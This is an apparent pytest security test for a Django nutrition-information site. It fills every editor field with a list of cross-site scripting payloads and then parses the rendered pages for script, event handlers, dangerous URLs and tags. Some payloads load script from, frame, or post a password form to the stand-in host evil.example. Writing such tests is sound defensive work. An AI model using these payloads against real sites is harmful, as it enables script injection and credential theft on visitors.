"""Editor text cannot run code in a reader's browser.

Every field an editor fills is set to a hostile payload, then the real pages are fetched and
parsed: no script, handler, style, frame, SVG or dangerous link may come out of them.
"""

import json
from collections import Counter
from html.parser import HTMLParser

import pytest
from django.conf import settings

from core.markdown import ALLOWED_TAGS
from nutrients.models import Factor, FoodSource, Nutrient, NutrientSection, Page, Relief, Symptom
from nutrients.tests.factories import make_food, make_nutrient, make_page, make_symptom

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href=" JaVaScRiPt:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    '[x](https://example.org "title" onmouseover=alert(1))',
    '<svg onload="alert(1)"><circle r="5"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<style>body{display:none}</style>",
    '<p style="position:fixed;inset:0;background:red">covered</p>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<form action="https://evil.example"><input name=password></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<!--<script>alert(1)</script>-->",
    '"><script>alert(1)</script>',
    "{{ request }}{% debug %}{% load static %}",
    "<a href='x' hx-get='/admin/' hx-trigger='load'>htmx</a>",
    "<a href='x' data-hx-get='/admin/' data-hx-trigger='load'>htmx</a>",
    "<div data-hx-headers='{\"X-CSRFToken\": \"x\"}' data-hx-post='/checker/step/'>x</div>",
    '<details open ontoggle="alert(1)">x</details>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]

VOID_TAGS = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source"}
DANGEROUS_TAGS = {
    "style", "iframe", "frame", "object", "embed", "svg", "math", "form", "input", "base",
    "meta", "link", "img", "details", "noscript", "template",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster"}


class Audit(HTMLParser):
    """Collects what the page would make a browser do beyond showing text."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []
        self.in_body = False
        self.in_script = False
        self.data_block = None  # text of a JSON-LD data block being read, else None
        self.markdown_depth = 0  # > 0 inside a block of rendered editor Markdown
        self.body_tags = []  # compared with the same page holding harmless text

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "body":
            self.in_body = True
        if tag == "script" and attrs == {"type": "application/ld+json"} and not self.markdown_depth:
            # Structured data (core/templatetags/page_tags.py): a data block browsers never run.
            # It must hold JSON and nothing else; handle_endtag checks what it read.
            self.data_block = ""
        elif tag == "script":
            self.in_script = True
            if not (attrs.get("src") or "").startswith(static_prefix()):
                self.problems.append(f"script {attrs}")
        if self.in_body:
            self.body_tags.append(tag)
        if self.markdown_depth:
            if tag not in ALLOWED_TAGS:
                self.problems.append(f"<{tag}> in editor text")
            if any(name.startswith(("hx-", "data-")) for name in attrs):
                self.problems.append(f"<{tag} {attrs}> in editor text")
            if tag not in VOID_TAGS:
                self.markdown_depth += 1
        elif {"prose", "footer-advice"} & set((attrs.get("class") or "").split()):
            self.markdown_depth = 1
        for name, value in attrs.items():
            if name.startswith("on") or name == "style":
                self.problems.append(f"<{tag} {name}=...>")
            if name in URL_ATTRIBUTES and value:
                scheme = "".join(ch for ch in value if ch.isprintable() and not ch.isspace())
                if scheme.lower().startswith(("javascript:", "data:", "vbscript:")):
                    self.problems.append(f"<{tag} {name}={value!r}>")

    def handle_endtag(self, tag):
        if tag == "script" and self.data_block is not None:
            try:
                json.loads(self.data_block)
            except ValueError:
                self.problems.append(f"data block that is not JSON: {self.data_block[:40]!r}")
            self.data_block = None
        if tag == "script":
            self.in_script = False
        if self.markdown_depth:
            self.markdown_depth -= 1

    def handle_data(self, data):
        if self.data_block is not None:
            self.data_block += data
        elif self.in_script and data.strip():
            self.problems.append(f"inline script: {data[:40]!r}")


def static_prefix() -> str:
    return "/" + settings.STATIC_URL.lstrip("/")


def audited(html: str) -> Audit:
    parser = Audit()
    parser.feed(html)
    return parser


def audit(html: str) -> list[str]:
    return audited(html).problems


def test_audit_catches_what_it_looks_for():
    assert audit("<body><script>alert(1)</script></body>")
    assert audit('<body><script type="application/ld+json">alert(1)</script></body>')
    assert audit('<body><script type="text/javascript">{"a": 1}</script></body>')
    assert audit('<body><div class="prose"><script type="application/ld+json">{}</script></div>')
    assert not audit('<body><script type="application/ld+json">{"a": "\\u003C"}</script></body>')
    assert audit('<body><a href=" javascript:x">x</a></body>')
    assert audit('<body><p onclick="x">x</p></body>')
    assert audit('<body><div class="prose"><svg></svg></div></body>')
    assert audit('<body><p style="color:red">x</p></body>')
    assert audit('<body><div class="prose"><p hx-get="/x">x</p></div></body>')
    assert audit('<body><div class="prose"><p><u>x</u></p></div></body>')
    fine = "<body><div class='prose'><p><a href='https://example.org'>link</a></p></div></body>"
    assert audit(fine) == []


def build_site(text: str) -> list[str]:
    """Every kind of editor text set to ``text``; the addresses of the pages that show it."""
    food = make_food("greens", description=text)
    nutrient = make_nutrient(
        "Magnesium",
        foods=[food],
        symptoms=[make_symptom("Night cramps", description=text)],
        summary=text[:200],
        primary_role=text[:200],
        deficiency_symptom=text[:200],
        condition_name=text[:80],
        body=text,
        evidence_note=text[:200],
        research=text,
        careful=text,
        at_risk=text,
    )
    NutrientSection.objects.create(nutrient=nutrient, title=text[:120], anchor="s", body=text)
    Factor.objects.create(name="Dehydration", slug="dehydration", summary=text[:200], body=text)
    Relief.objects.create(name="Stretch", slug="stretch", when="now", body=text)
    for slug in ("introduction", "key-nutrients", "comparison", "other-causes", "footer-advice"):
        make_page(slug, placement="section", title=text[:200], body=text)
    make_page("about", title=text[:200], description=text[:200], body=text)
    return [
        "/",
        "/nutrients/",
        nutrient.get_absolute_url(),
        "/compare/",
        "/foods/",
        food.get_absolute_url(),
        "/other-causes-and-relief/",
        "/about/",
    ]


_BASELINE: dict[str, Counter] = {}


@pytest.fixture
def baseline_tags(client):
    """The tags each page has with harmless text: what the site's own templates put there."""
    if not _BASELINE:
        for url in build_site("Harmless text."):
            _BASELINE[url] = Counter(audited(client.get(url).content.decode()).body_tags)
        for model in (NutrientSection, Factor, Relief, Nutrient, FoodSource, Symptom, Page):
            model.objects.all().delete()
    return _BASELINE


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_editor_text_is_inert_on_every_page(client, baseline_tags, payload):
    for url in build_site(payload):
        response = client.get(url)
        assert response.status_code == 200, url
        result = audited(response.content.decode())
        assert result.problems == [], url
        added = Counter(result.body_tags) - baseline_tags[url]
        assert set(added) & DANGEROUS_TAGS == set(), url
